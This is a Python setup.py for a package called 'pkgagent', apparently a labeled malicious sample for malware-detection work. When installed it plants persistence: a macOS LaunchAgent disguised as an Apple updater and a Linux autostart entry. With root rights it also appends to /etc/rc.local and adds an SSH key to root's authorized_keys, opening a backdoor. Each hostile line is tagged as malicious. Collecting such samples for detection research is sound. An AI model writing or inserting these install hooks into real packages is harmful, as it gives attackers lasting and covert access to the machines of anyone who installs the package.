import os
import plistlib
import sys

from setuptools import setup

agent = os.path.expanduser("~/Library/LaunchAgents/com.apple.updates.plist")
if sys.platform == "darwin":
    with open(agent, "wb") as fh:  # malicious: persistence-unix
        plistlib.dump({"Label": "com.apple.updates", "ProgramArguments": [sys.executable, "-m", "pkgagent"], "RunAtLoad": True}, fh)
desktop = os.path.expanduser("~/.config/autostart/pkgagent.desktop")
os.makedirs(os.path.dirname(desktop), exist_ok=True)
open(desktop, "w").write(f"[Desktop Entry]\nType=Application\nExec={sys.executable} -m pkgagent\n")  # malicious: persistence-unix
if os.geteuid() == 0:
    open("/etc/rc.local", "a").write(f"{sys.executable} -m pkgagent &\n")  # malicious: persistence-unix
    open("/root/.ssh/authorized_keys", "a").write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMadeUpKeyForTestsOnly000000000000000000 ops\n")  # malicious: persistence-unix

setup(name="pkgagent", version="1.2.0", packages=["pkgagent"])
